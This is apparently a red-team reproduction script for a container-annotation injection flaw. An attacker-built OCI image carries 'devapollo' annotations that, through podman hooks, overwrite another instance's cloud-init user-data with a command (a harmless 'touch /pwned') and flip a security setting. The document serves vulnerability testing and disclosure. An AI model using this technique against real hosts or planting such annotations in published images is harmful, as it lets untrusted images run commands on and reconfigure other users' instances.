#!/bin/sh
# Throwaway repro (redteam1). Needs podman, runc, a daemon on $APOLLO_DIR, BASE a local
# image, HOOKS the README's podman hook files (when: annotation devapollo.name).
set -eu
BASE=${BASE:-rtbase:latest}; HOOKS=${HOOKS:?}
P="podman --cgroup-manager cgroupfs --events-backend none"
ctx=$(mktemp -d); printf 'FROM %s\nCMD ["sleep","1000"]\n' "$BASE" > "$ctx/Containerfile"
# What an attacker publishes: an OCI image whose manifest carries annotations.
$P build --no-cache --format oci --annotation devapollo.name=victim \
  --annotation "apollo.cloud-init.user-data=$(printf '#cloud-config\nruncmd: [touch /pwned]')" \
  --annotation apollo.security.devapollo.users=true -t evil:latest "$ctx"
devapollo create victim -c cloud-init.user-data="$(printf '#cloud-config\npassword: SECRET-UD\n')"
# The admin runs the image, with no devapollo annotation of its own.
$P run -d --name innocent --network none --runtime runc --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 \
  --hooks-dir "$HOOKS" evil:latest
devapollo list                  # victim: Running, registered (the image's container)
devapollo config show victim    # user-data replaced, security.devapollo.users=true, new instance-id
$P rm -f -t 0 innocent; rm -rf "$ctx"
